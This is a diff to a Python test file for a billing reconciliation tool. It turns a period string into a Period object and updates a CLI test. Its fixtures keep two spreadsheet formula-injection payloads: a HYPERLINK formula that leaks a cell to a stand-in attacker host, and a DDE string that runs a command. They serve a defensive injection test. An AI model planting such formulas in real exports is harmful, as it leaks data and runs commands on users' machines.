@@ -14,9 +14,10 @@ from recon_helpers.audit.decisions import record_decision
 from recon_helpers.audit.ledger import Ledger
 from recon_helpers.billing.adjustments import ADJUSTMENT_COLUMNS, adjustments, write_adjustments
 from recon_helpers.cli import main
+from recon_helpers.core.period import Period
 from tests.workspace_builder import b, build, d, p
 
-PERIOD = "2026-10"
+PERIOD = Period.parse("2026-10")
 HOSTILE_NAME = '=HYPERLINK("http://attacker.test/?leak="&A1,"Invoice")'
 DDE = "+cmd|' /C calc'!A0"
 
@@ -141,7 +142,7 @@ def test_formula_injection_round_trip_through_csv_and_xlsx(tmp_path: Path) -> No
 
 def test_cli_adjustments_writes_the_file(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
     ws = hostile_workspace(tmp_path / "data")
-    base = ["adjustments", "--workspace", str(ws.root), "--period", PERIOD]
+    base = ["adjustments", "--workspace", str(ws.root), "--period", str(PERIOD)]
     out = tmp_path / "none.csv"
     assert main([*base, "--out", str(out)]) == 0  # no ledger yet: header only
     assert out.read_text(encoding="utf-8").splitlines() == [",".join(ADJUSTMENT_COLUMNS)]
